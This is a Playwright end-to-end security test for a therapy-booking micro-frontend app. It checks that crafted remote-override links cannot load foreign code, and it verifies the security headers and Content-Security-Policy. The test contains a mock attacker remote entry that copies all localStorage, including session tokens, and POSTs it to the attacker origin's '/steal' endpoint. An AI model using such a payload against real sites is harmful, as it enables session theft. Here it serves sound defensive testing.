// Remote loading is a trust boundary. One crafted link, `/?remote.discovery=<attacker manifest>`,
// used to make the shell run the attacker's JavaScript on its own origin (next to the session
// tokens) and keep it in localStorage for every later visit. A real foreign "remote" runs here on
// its own port; the stack's shell serves like production (overrides off), and a second shell,
// started by this file, has overrides enabled for an integration tester's origins only.
// Also: the security headers of the shell and the remotes over HTTP, and the whole site under its
// Content-Security-Policy in Chromium without a single violation.
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { remoteSecurityHeaders } from '@acolhe/scripts/stack/security-headers';
import { shellHeaders, startStaticSite } from '@acolhe/scripts/stack/static-server';
import { launchBrowser, newPage } from '../src/browser';
import { DEMO, DEMO_PASSWORD, loginThroughPage } from '../src/session';
import { apiUrl, baseUrl, E2E_PORTS, identityUrl, overridesShellUrl } from '../src/stackEnv';

const repoRoot = join(__dirname, '..', '..');
const KEY = 'acolhe:remotes';
const THERAPIST = DEMO.terapeuta.id;
const FOREIGN_PORT = E2E_PORTS.shell + 6;
const TESTER_PORT = E2E_PORTS.shell + 7;
const foreignOrigin = `http://localhost:${FOREIGN_PORT}`;
const testerOrigin = `http://localhost:${TESTER_PORT}`;
const ATTACK = `${foreignOrigin}/mf-manifest.json`;
const remoteUrl = (port: number) => `http://localhost:${port}`;

const deployedRemotes = {
  discovery: `${remoteUrl(E2E_PORTS.discovery)}/mf-manifest.json`,
  booking: `${remoteUrl(E2E_PORTS.booking)}/mf-manifest.json`,
  therapistArea: `${remoteUrl(E2E_PORTS.therapistArea)}/mf-manifest.json`,
  clientArea: `${remoteUrl(E2E_PORTS.clientArea)}/mf-manifest.json`,
};

// ---- the attacker's "remote": a manifest and an entry that would steal the session ----

const foreignLog: string[] = [];
function foreignRemote(): Promise<Server> {
  const manifest = {
    id: 'discovery',
    name: 'discovery',
    metaData: {
      name: 'discovery',
      globalName: 'discovery',
      publicPath: 'auto',
      buildInfo: { buildVersion: '1', buildName: 'discovery' },
      remoteEntry: { name: 'remoteEntry.js', path: '', type: 'global' },
      types: { path: '', name: '', zip: '', api: '' },
      pluginVersion: '2.9.2',
    },
    shared: [],
    remotes: [],
    exposes: ['HomePage', 'TerapeutasPage'].map((name) => ({
      id: `discovery:${name}`,
      name,
      path: `./${name}`,
      assets: { js: { sync: [], async: [] }, css: { sync: [], async: [] } },
    })),
  };
  const entry = `
    window.__pwned = true;
    window.__stolen = JSON.stringify(Object.assign({}, window.localStorage));
    fetch(${JSON.stringify(`${foreignOrigin}/steal`)}, { method: 'POST', body: window.__stolen }).catch(function () {});
    var discovery = {
      init: function () {},
      get: function () { return Promise.resolve(function () { return { default: function () { return null; } }; }); },
    };`;
  const server = createServer((req, res) => {
    foreignLog.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    if (req.url?.startsWith('/mf-manifest.json')) {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(manifest));
    } else if (req.url?.startsWith('/remoteEntry.js')) {
      res.writeHead(200, { 'content-type': 'text/javascript' }).end(entry);
    } else {
      res.writeHead(204).end();
    }
  });
  return new Promise((resolve) => server.listen(FOREIGN_PORT, '127.0.0.1', () => resolve(server)));
}

// ---- a second shell, as a staging deployment with overrides enabled would serve it ----

let overrideOrigins = [testerOrigin];
const overridesConfig = () => ({
  apiBaseUrl: apiUrl,
  cognito: { region: 'us-east-2', endpoint: identityUrl, userPoolId: 'local_acolhe', clientId: 'acolhelocalclient000000000' },
  supportEmail: 'contato@acolhe.com.br',
  remoteOverrides: { enabled: true, allowedOrigins: overrideOrigins },
});

const servers: Server[] = [];
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
  servers.push(await foreignRemote());
  const shellDir = join(repoRoot, 'shell', 'dist');
  servers.push(
    await startStaticSite({
      name: 'shell-overrides',
      dir: shellDir,
      port: E2E_PORTS.overridesShell,
      spa: true,
      json: { '/config.json': overridesConfig, '/remotes.json': () => deployedRemotes },
      securityHeaders: shellHeaders(shellDir, overridesConfig, () => deployedRemotes),
    }),
  );
  // An integration tester's build of the booking remote, on their own port.
  servers.push(
    await startStaticSite({
      name: 'booking-under-test',
      dir: join(repoRoot, 'mfe-booking', 'dist'),
      port: TESTER_PORT,
      securityHeaders: remoteSecurityHeaders,
      corsOrigins: () => [overridesShellUrl],
    }),
  );
});
afterAll(async () => {
  await browser?.close();
  await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
});
beforeEach(() => {
  foreignLog.length = 0;
  overrideOrigins = [testerOrigin];
});

// ---- helpers ----

/** A fresh context that records every CSP violation and every request by origin. */
async function watchedPage(): Promise<{ context: BrowserContext; page: Page; violations: string[]; requested: Set<string> }> {
  const { context, page } = await newPage(browser);
  const violations: string[] = [];
  const requested = new Set<string>();
  await context.exposeFunction('__cspViolation', (text: string) => violations.push(text));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { __cspViolation: (t: string) => void }).__cspViolation(`${e.effectiveDirective} ${e.blockedURI} (${e.sourceFile}:${e.lineNumber})`),
    );
  });
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text());
  });
  context.on('request', (r) => requested.add(`${new URL(r.url()).origin}${new URL(r.url()).pathname}`));
  return { context, page, violations, requested };
}

const stored = (page: Page) => page.evaluate((key) => window.localStorage.getItem(key), KEY);
const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned ?? false);
const banner = (page: Page) => page.getByText(/^Remotos substituídos neste navegador:/);
const homeHeading = (page: Page) => page.getByRole('heading', { level: 1, name: /Encontre o terapeuta ideal|Início/ }).first();

async function expectUntouched(page: Page) {
  await page.waitForLoadState('networkidle');
  expect(foreignLog).toEqual([]);
  expect(await stored(page)).toBeNull();
  expect(await pwned(page)).toBe(false);
  expect(await banner(page).count()).toBe(0);
}

// ---- the attack ----

describe('a crafted ?remote.* link', () => {
  it('production-like shell (overrides off): never requests the foreign remote, stores nothing, runs nothing', async () => {
    const { page, requested } = await watchedPage();
    await page.goto(`${baseUrl}/?remote.discovery=${encodeURIComponent(ATTACK)}`);
    await homeHeading(page).waitFor();
    await expectUntouched(page);
    expect([...requested].some((u) => u.startsWith(remoteUrl(E2E_PORTS.discovery)))).toBe(true);
  });

  it('production-like shell: an override stored by an earlier visit is removed, never applied', async () => {
    const { page } = await watchedPage();
    await page.goto(`${baseUrl}/login`);
    await page.evaluate(([key, url]) => window.localStorage.setItem(key!, JSON.stringify({ discovery: url })), [KEY, ATTACK]);
    await page.goto(`${baseUrl}/`);
    await homeHeading(page).waitFor();
    await expectUntouched(page);
  });

  it('overrides enabled, origin not allowed: the same — nothing requested, stored or run', async () => {
    const { page } = await watchedPage();
    await page.goto(`${overridesShellUrl}/login`);
    await page.evaluate(([key, url]) => window.localStorage.setItem(key!, JSON.stringify({ discovery: url })), [KEY, ATTACK]);
    await page.goto(`${overridesShellUrl}/?remote.discovery=${encodeURIComponent(ATTACK)}`);
    await homeHeading(page).waitFor();
    await expectUntouched(page);
  });

  it('overrides enabled, origin allowed: a banner names it, and "Restaurar remotos publicados" brings the deployed remotes back', async () => {
    overrideOrigins = [testerOrigin, foreignOrigin];
    const { page } = await watchedPage();
    await page.goto(`${overridesShellUrl}/?remote.discovery=${encodeURIComponent(ATTACK)}`);
    await banner(page).waitFor();
    expect(await banner(page).textContent()).toBe(`Remotos substituídos neste navegador: discovery → ${foreignOrigin}`);
    expect(foreignLog).toEqual(expect.arrayContaining(['GET /mf-manifest.json', 'GET /remoteEntry.js']));
    expect(JSON.parse((await stored(page))!)).toEqual({ discovery: ATTACK });
    // Allowed means trusted: its code runs (which is what the other cases must never let happen).
    await page.waitForFunction(() => (window as unknown as { __pwned?: boolean }).__pwned === true);

    foreignLog.length = 0;
    await page.getByRole('button', { name: 'Restaurar remotos publicados' }).click();
    await homeHeading(page).waitFor();
    expect(page.url()).toBe(`${overridesShellUrl}/`);
    expect(await banner(page).count()).toBe(0);
    expect(await stored(page)).toBeNull();
    expect(await pwned(page)).toBe(false);
    await page.waitForLoadState('networkidle');
    expect(foreignLog).toEqual([]);
  });
});

describe("the integration tester's workflow (README, Runtime configuration)", () => {
  it('re-points booking to their build on an allowed origin, in their browser only, and takes it back', async () => {
    const { page, requested, violations } = await watchedPage();
    const tester = `${testerOrigin}/mf-manifest.json`;
    await page.goto(`${overridesShellUrl}/agendar/${THERAPIST}?remote.booking=${encodeURIComponent(tester)}`);
    await page.getByRole('heading', { level: 1, name: /Agend/ }).first().waitFor();
    expect(await banner(page).textContent()).toBe(`Remotos substituídos neste navegador: booking → ${testerOrigin}`);
    expect(requested).toContain(`${testerOrigin}/remoteEntry.js`);
    expect([...requested].some((u) => u.startsWith(remoteUrl(E2E_PORTS.booking)))).toBe(false);

    // Kept for the next page…
    await page.goto(`${overridesShellUrl}/agendar/${THERAPIST}`);
    await banner(page).waitFor();
    // …until `?remote.booking=` removes it.
    await page.goto(`${overridesShellUrl}/agendar/${THERAPIST}?remote.booking=`);
    await page.getByRole('heading', { level: 1, name: /Agend/ }).first().waitFor();
    expect(await banner(page).count()).toBe(0);
    expect(await stored(page)).toBeNull();
    expect(violations).toEqual([]);
  });

  it('?remotes=reset removes every override', async () => {
    const { page } = await watchedPage();
    await page.goto(`${overridesShellUrl}/?remote.booking=${encodeURIComponent(`${testerOrigin}/mf-manifest.json`)}`);
    await banner(page).waitFor();
    await page.goto(`${overridesShellUrl}/?remotes=reset`);
    await homeHeading(page).waitFor();
    expect(await banner(page).count()).toBe(0);
    expect(await stored(page)).toBeNull();
  });
});

// ---- headers over HTTP ----

describe('security headers', () => {
  it('the shell: CSP from its runtime config, no framing, no sniffing, no CORS', async () => {
    for (const path of ['/', '/terapeutas', '/config.json', '/main.js']) {
      const res = await fetch(`${baseUrl}${path}`, { headers: { Origin: foreignOrigin } });
      expect(res.status).toBe(200);
      const csp = res.headers.get('content-security-policy')!;
      expect(csp).toMatch(/^default-src 'self'; script-src 'self' 'sha256-[A-Za-z0-9+/=]+' /);
      for (const remote of Object.values(deployedRemotes)) expect(csp).toContain(new URL(remote).origin);
      expect(csp).toContain(`connect-src 'self' ${apiUrl} ${apiUrl.replace(/^http/, 'ws')} ${identityUrl}`);
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).not.toContain('unsafe-eval');
      expect(csp).not.toContain(foreignOrigin);
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
      expect(res.headers.get('permissions-policy')).toContain('camera=(self)');
      expect(res.headers.get('access-control-allow-origin')).toBeNull();
    }
  });

  it('the remotes: CORS for the shells only, never *', async () => {
    for (const remote of Object.values(deployedRemotes)) {
      const fromShell = await fetch(remote, { headers: { Origin: baseUrl } });
      expect(fromShell.headers.get('access-control-allow-origin')).toBe(baseUrl);
      const fromAttacker = await fetch(remote, { headers: { Origin: foreignOrigin } });
      expect(fromAttacker.headers.get('access-control-allow-origin')).toBeNull();
      expect(fromAttacker.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });
});

// ---- the whole site under its CSP ----

describe('the site under its Content-Security-Policy', () => {
  const publicPaths = ['/', '/terapeutas', `/terapeuta/${THERAPIST}`, `/agendar/${THERAPIST}`, '/tutorial-terapeutas', '/tutorial-clientes', '/login', '/cadastro'];

  it('public pages render with no violation', async () => {
    const { page, violations } = await watchedPage();
    for (const path of publicPaths) {
      await page.goto(`${baseUrl}${path}`);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      await page.waitForLoadState('networkidle');
    }
    expect(violations).toEqual([]);
  });

  it.each([
    ['cliente', [`/cliente/${DEMO.cliente.id}`, `/cliente/${DEMO.cliente.id}/configuracoes`]],
    ['terapeuta', [`/usuario/${THERAPIST}`, `/usuario/${THERAPIST}/configuracoes`]],
  ] as const)('signed in as %s: log in and the private pages, with no violation', async (who, paths) => {
    const { page, violations } = await watchedPage();
    await loginThroughPage(page, DEMO[who].email, DEMO_PASSWORD);
    await page.waitForURL(`${baseUrl}${paths[0]}`);
    for (const path of paths) {
      await page.goto(`${baseUrl}${path}`);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      await page.waitForLoadState('networkidle');
    }
    expect(violations).toEqual([]);
  });
});
